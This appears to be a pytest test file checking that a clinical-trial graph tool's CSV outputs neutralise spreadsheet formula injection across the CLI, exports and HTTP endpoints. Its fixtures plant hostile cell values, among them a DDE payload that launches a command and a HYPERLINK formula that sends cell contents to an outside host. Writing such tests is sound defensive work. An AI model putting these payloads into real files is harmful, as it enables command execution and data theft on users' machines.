"""CSV that people open in a spreadsheet: no text of a record is a formula there, and programs get every letter."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st

from api_study import encoded, study
from serving import serving
from trialgraph.build import build
from trialgraph.cli import group
from trialgraph.display import cell, csv_lines, spreadsheet_lines

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
DRUG, SPONSOR, TITLE = "@SUM(1+1)", "+1+cmd|' /C calc'!A0", f"{FORMULA} of ears"
MINUS = "-2+3 weeks"
STARTS = "=+-@\t\r\n＝＋－＠"


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(text: str) -> bool:
    try:
        return float(text) is not None
    except ValueError:
        return False


def is_formula(text: str) -> bool:
    """What a spreadsheet would work out; it would also see a number, which does no harm."""
    return text[:1] in STARTS and bool(text) and not is_number(text)


# --- one cell -----------------------------------------------------------------------------------------


@given(st.text() | st.tuples(st.sampled_from(STARTS), st.text()).map("".join))
@example("-5")
@example("+1.5e3")
@example("-5\n")
@example("-inf")
@example("+1_000")
@example("-٥")
def test_a_text_is_no_formula_and_keeps_its_letters(text: str) -> None:
    shown = cell(text)
    assert shown in (text, f"'{text}")
    assert not is_formula(shown) or is_number(shown.strip())
    assert (shown == text) or text[0] in STARTS
    assert read("".join(spreadsheet_lines([["name"], [text]])))[1:] == ([[shown]] if text else [[""]])


@given(st.integers() | st.floats(allow_nan=False) | st.none() | st.booleans())
def test_what_is_no_text_stays_what_it_is(value: object) -> None:
    assert cell(value) is value


@given(st.from_regex(r"\A[+-]?[0-9]{1,20}(\.[0-9]{1,9})?([eE][+-]?[0-9]{1,3})?\Z"))
def test_a_number_written_as_text_stays_a_number(number: str) -> None:
    assert cell(number) == number


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2)))
def test_lines_for_programs_have_every_text_as_it_is(rows: list[list[str]]) -> None:
    assert read("".join(csv_lines(rows))) == rows


# --- every door ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two trials of which every name begins as a formula does; the first condition lacks the second drug."""
    place = tmp_path_factory.mktemp("formulas")
    for number, condition, drugs in (("NCT90000071", MINUS, [DRUG]), ("NCT90000072", "=ear()", [DRUG, "=B1"])):
        hostile = study(
            number,
            identificationModule={"briefTitle": TITLE, "orgStudyIdInfo": {"id": FORMULA}},
            conditionsModule={"conditions": [condition, "@fever"]},
            sponsorCollaboratorsModule={"leadSponsor": {"name": SPONSOR}},
            armsInterventionsModule={"interventions": [{"type": "DRUG", "name": drug} for drug in drugs]},
        )
        (place / f"{number}.json").write_bytes(encoded(hostile))
    build([place], place / "graph")
    return place / "graph"


@pytest.fixture(scope="module")
def client(folder: Path) -> Iterator[httpx.Client]:
    with serving(graph=str(folder)) as address, httpx.Client(base_url=address, timeout=60) as client:
        yield client


TITLES = "SELECT ?title (-5 AS ?number) { ?trial a tg:Trial ; rdfs:label ?title }"
COMMANDS = {
    "query": ["query", "trials_of_a_drug", f"drug={DRUG}"],
    "sparql": ["sparql", TITLES],
    "related": ["related", "NCT90000071"],
    "network": ["network", "drug-condition"],
    "measure": ["measure", "--network", "drug-condition"],
    "radar": ["radar", "=B1"],
}


@pytest.mark.parametrize("words", COMMANDS.values(), ids=COMMANDS)
def test_the_command_line_writes_no_formula(folder: Path, words: list[str]) -> None:
    run = CliRunner().invoke(group, [*words, "--format", "csv", "-g", str(folder)])
    assert run.exit_code == 0, run.output
    assert_names_are_text(run.stdout)


def test_a_matrix_has_no_formula(folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "matrix.csv"
    run = CliRunner().invoke(group, ["export", "--matrix", "drug-condition", "-o", str(file), "-g", str(folder)])
    assert run.exit_code == 0, run.output
    assert_names_are_text(file.read_text(encoding="utf-8"))


def assert_names_are_text(text: str) -> None:
    cells = [each for row in read(text) for each in row]
    assert not list(filter(is_formula, cells))
    assert [each for each in cells if is_formula(each.removeprefix("'"))], "no name of a record is in this answer"


def test_a_stored_query_has_no_formula_and_its_other_formats_have_every_letter(client: httpx.Client) -> None:
    def ask(format: str) -> str:
        return client.get(f"/queries/trials_of_a_drug.{format}", params={"drug": DRUG}).raise_for_status().text

    head, *rows = read(ask("csv"))
    assert len(rows) == 2 and {row[head.index("title")] for row in rows} == {f"'{TITLE}"}
    by_accept = client.get("/queries/trials_of_a_drug", params={"drug": DRUG}, headers={"Accept": "text/csv"})
    assert read(by_accept.text) == [head, *rows]
    for format in ("json", "ndjson", "tsv", "xml"):
        assert "'=HYPERLINK" not in ask(format) and "=HYPERLINK" in ask(format)


def test_the_csv_of_the_endpoint_is_as_sparql_has_it(client: httpx.Client) -> None:
    answer = client.get("/sparql", params={"query": TITLES}, headers={"Accept": "text/csv"})
    assert read(answer.text) == [["title", "number"], [TITLE, "-5"], [TITLE, "-5"]]
